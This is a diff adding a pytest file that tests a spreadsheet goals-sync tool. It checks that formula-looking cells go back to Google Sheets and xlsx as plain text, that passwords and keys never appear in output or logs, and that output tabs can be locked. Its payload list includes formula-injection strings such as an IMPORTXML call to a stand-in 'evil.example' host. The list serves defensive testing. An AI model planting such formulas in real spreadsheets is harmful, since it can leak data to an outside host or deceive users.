@@ -1,0 +1,218 @@
+"""Security: a cell never becomes code, secrets never reach output, output tabs can be locked.
+
+- Text starting with ``=``, ``+``, ``-`` or ``@`` goes back to the spreadsheet as
+  text: RAW values to Google, string cells (never formulas) in xlsx.
+- The database password, the service account's private key and notification
+  tokens never appear in what ``run --once`` or ``check`` print, nor in the
+  database's logs of cycles and jobs, whatever fails.
+- A key file readable by other users draws a warning.
+- ``sheets.protect_output_tabs`` protects Summary, Leaderboard and Sync Errors so
+  that only the service account can edit them.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from sqlalchemy.engine import make_url
+
+from sheets.inputs import column_letter
+from sheets.xlsx import create_workbook
+from tests.cycle.conftest import run_cli
+from tests.faults.conftest import InProcess
+from tests.faults.support import OUTPUT_TABS, GoogleSheet, format_requests, query, sent_values, workbook
+from tests.sheets_api.fixtures import ServiceAccount
+from tests.sheets_api.server import FakeSheetsServer
+
+DANGEROUS = ["=1+2", "+SUM(A1:A9)", "-3+4", "@INDIRECT(\"A1\")", '=IMPORTXML("http://evil.example/x","//a")',
+             "=HYPERLINK(\"http://evil.example\",\"click\")"]
+DB_PASSWORD = "Db-Pa55word-8c1f"
+MAIL_PASSWORD = "M4il-Pa55word-77aa"
+HOOK_TOKEN = "T3amT0ken-secret-93bd"
+
+
+def dangerous_workbook() -> dict[str, list[list[Any]]]:
+    """The clean workbook with a formula-looking name, team and title on every rep."""
+    tabs = workbook()
+    for index, row in enumerate(tabs["Reps"][1:]):
+        row[1] = DANGEROUS[index]
+        row[2] = DANGEROUS[index + 3]
+        row[3] = DANGEROUS[(index + 1) % len(DANGEROUS)]
+    return tabs
+
+
+def closed_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return int(probe.getsockname()[1])
+
+
+# --- cells never become code ------------------------------------------------------------
+
+def test_formula_text_goes_to_google_as_raw_text(in_process: Callable[..., InProcess], google_sheet: GoogleSheet,
+                                                  sheets_server: FakeSheetsServer, fresh_db_url: str) -> None:
+    google_sheet.put(dangerous_workbook())
+
+    assert in_process().cycle("2026-11-03T09:00").status == "success"
+
+    bodies = sent_values(sheets_server)
+    assert bodies and all(body["valueInputOption"] == "RAW" for body in bodies)
+    names = {row[0] for row in google_sheet.output("Summary")[1:]}
+    assert set(DANGEROUS[:3]) <= names
+    for tab in ("Summary", "Leaderboard"):
+        grid = google_sheet.output(tab)
+        for r, row in enumerate(grid):
+            for c, value in enumerate(row):
+                if isinstance(value, str) and value and value[0] in "=+-@":
+                    cell = sheets_server.get_cell(google_sheet.id, tab, f"{column_letter(c)}{r + 1}")
+                    assert cell is not None and cell.formula is None and cell.value == value, (tab, r, c)
+    stored = {name for (name,) in query(fresh_db_url, "SELECT name FROM sales_reps")}
+    assert stored == set(DANGEROUS[:3])
+
+
+def test_formula_text_stays_text_in_xlsx(settings_factory: Callable[..., Any], fresh_db_url: str,
+                                         tmp_path: Path) -> None:
+    from models.store import Store
+    from sheets.xlsx import XlsxBackend
+    from sync.clock import parse_now
+    from sync.cycle import run_cycle
+
+    path = tmp_path / "goals.xlsx"
+    create_workbook(path, dangerous_workbook())
+    settings = settings_factory(database={"url": fresh_db_url}, sheets={"backend": "xlsx", "xlsx_path": str(path)})
+    store = Store.open(settings)
+    try:
+        result = run_cycle(settings, store, XlsxBackend(path), parse_now("2026-11-03T09:00", settings.tz))
+    finally:
+        store.dispose()
+    assert result.status == "success", result.error
+
+    book = openpyxl.load_workbook(path)
+    seen: set[str] = set()
+    for tab in ("Summary", "Leaderboard", "Reps"):
+        for row in book[tab].iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value and cell.value[0] in "=+-@":
+                    assert cell.data_type == "s", f"{tab}!{cell.coordinate} {cell.value!r} became a formula"
+                    seen.add(cell.value)
+    assert set(DANGEROUS) <= seen
+    # What the next cycle reads back is still the text.
+    grids = XlsxBackend(path).read_tabs(["Summary", "Reps"])
+    assert {row[0] for row in grids["Summary"][1:]} >= set(DANGEROUS[:3])
+
+
+# --- secrets never printed or stored ----------------------------------------------------
+
+def secrets_of(account: ServiceAccount) -> list[str]:
+    """Every secret of the test config, with each line of the private key body."""
+    key_lines = [line for line in account.private_key.splitlines() if line and "PRIVATE KEY" not in line]
+    return [DB_PASSWORD, MAIL_PASSWORD, HOOK_TOKEN, "PRIVATE KEY", *key_lines]
+
+
+def assert_no_secret(where: str, text: str, secrets: list[str]) -> None:
+    for secret in secrets:
+        assert secret not in text, f"{where} shows a secret ({secret[:12]}…):\n{text[-3000:]}"
+
+
+def leaky_config(write_config: Callable[..., Path], account: ServiceAccount, database_url: str,
+                 sheet: GoogleSheet, **sheets: Any) -> Path:
+    """A config full of secrets, logging at DEBUG, notifications to endpoints that refuse."""
+    port = closed_port()
+    return write_config(
+        database_url,
+        sheets=sheet.sheets_config(credentials_file=str(account.path), **sheets),
+        notifications={"email_url": f"mailto://bot:{MAIL_PASSWORD}@127.0.0.1:{port}?from=bot@example.com",
+                       "team_urls": [f"json://hook:{HOOK_TOKEN}@127.0.0.1:{port}/notify"]},
+        logging={"level": "DEBUG"},
+    )
+
+
+def with_password(url: str) -> str:
+    """The test database URL with a password (ignored by the trust-auth test server)."""
+    return make_url(url).set(username="postgres", password=DB_PASSWORD).render_as_string(hide_password=False)
+
+
+def test_no_secret_when_the_database_is_unreachable(write_config: Callable[..., Path], google_sheet: GoogleSheet,
+                                                     sheets_service_account: ServiceAccount) -> None:
+    secrets = secrets_of(sheets_service_account)
+    dead = f"postgresql://goals:{DB_PASSWORD}@127.0.0.1:{closed_port()}/goals"
+    config = leaky_config(write_config, sheets_service_account, dead, google_sheet)
+
+    for command in (("run", "--once"), ("check",), ("status",), ("db", "upgrade")):
+        result = run_cli(*command, "--now", "2026-11-03T09:00", config=config)
+        assert result.returncode != 0
+        assert "127.0.0.1" in result.stdout + result.stderr, "the message should say which database"
+        assert_no_secret(" ".join(command), result.stdout + result.stderr, secrets)
+
+
+def test_no_secret_when_the_sheet_refuses_and_notifications_fail(
+        write_config: Callable[..., Path], google_sheet: GoogleSheet, sheets_server: FakeSheetsServer,
+        sheets_service_account: ServiceAccount, fresh_db_url: str) -> None:
+    secrets = secrets_of(sheets_service_account)
+    config = leaky_config(write_config, sheets_service_account, with_password(fresh_db_url), google_sheet)
+
+    # A cycle that succeeds, then jobs whose announcements fail (the endpoints refuse).
+    ok = run_cli("run", "--once", "--now", "2026-11-03T09:00", config=config)
+    assert ok.returncode == 0, ok.stderr
+    assert "chmod" not in ok.stderr  # the key file is 0600
+    # The sheet is no longer shared: the cycle fails, naming the account, not the key.
+    sheets_server.unshare(google_sheet.id)
+    refused = run_cli("run", "--once", "--now", "2026-11-03T10:00", config=config)
+    assert refused.returncode == 1
+    assert sheets_service_account.email in refused.stdout + refused.stderr
+    check = run_cli("check", "--now", "2026-11-03T10:00", config=config)
+    assert "***" in check.stdout or DB_PASSWORD not in check.stdout
+
+    for name, result in (("run --once", ok), ("failed run --once", refused), ("check", check)):
+        assert_no_secret(name, result.stdout + result.stderr, secrets)
+    stored = "\n".join(str(row) for row in query(fresh_db_url, "SELECT error, problems::text FROM sheets_sync_log")
+                       + query(fresh_db_url, "SELECT detail FROM job_runs")
+                       + query(fresh_db_url, "SELECT last_error FROM goal_deadline_reminders"))
+    assert_no_secret("the database's logs", stored, secrets)
+    assert "failed" in ok.stderr.lower() or "could not" in ok.stderr.lower(), "the failed sends should be logged"
+
+
+def test_a_key_file_readable_by_others_draws_a_warning(write_config: Callable[..., Path],
+                                                       google_sheet: GoogleSheet, fresh_db_url: str,
+                                                       sheets_service_account: ServiceAccount) -> None:
+    os.chmod(sheets_service_account.path, 0o644)
+    config = write_config(fresh_db_url, sheets=google_sheet.sheets_config(
+        credentials_file=str(sheets_service_account.path)))
+
+    for command in (("run", "--once"), ("check",)):
+        result = run_cli(*command, "--now", "2026-11-03T09:00", config=config)
+        output = result.stdout + result.stderr
+        assert "readable by other users" in output and "chmod 600" in output, (command, output)
+        assert_no_secret(" ".join(command), output, secrets_of(sheets_service_account))
+
+
+# --- output tabs locked to the service account -------------------------------------------
+
+@pytest.mark.parametrize("from_the_start", [True, False], ids=["from-the-start", "switched-on-later"])
+def test_output_tabs_can_be_protected(in_process: Callable[..., InProcess], google_sheet: GoogleSheet,
+                                      sheets_server: FakeSheetsServer, sheets_service_account: ServiceAccount,
+                                      from_the_start: bool) -> None:
+    key = str(sheets_service_account.path)
+    if not from_the_start:  # an existing deployment turns the option on
+        assert in_process(sheets={"credentials_file": key}).cycle("2026-11-03T09:00").status == "success"
+    run = in_process(sheets={"credentials_file": key, "protect_output_tabs": True})
+    assert run.cycle("2026-11-03T10:00").status == "success"
+    assert run.cycle("2026-11-03T11:00").status == "success"
+
+    protections = [r["addProtectedRange"]["protectedRange"] for r in format_requests(sheets_server)
+                   if "addProtectedRange" in r]
+    sheet_ids = {tab: sheets_server.tab(google_sheet.id, tab).sheet_id for tab in OUTPUT_TABS}
+    assert sorted(p["range"]["sheetId"] for p in protections) == sorted(sheet_ids.values()), \
+        "each output tab is protected exactly once"
+    assert all(p["editors"]["users"] == [sheets_service_account.email] and not p["warningOnly"]
+               for p in protections)
+    for tab in OUTPUT_TABS:
+        assert sheets_server.tab(google_sheet.id, tab).protected_ranges, f"{tab} is not protected"
+    for tab in ("Reps", "Monthly Goals", "Actuals"):
+        assert not sheets_server.tab(google_sheet.id, tab).protected_ranges, f"input tab {tab} was locked"
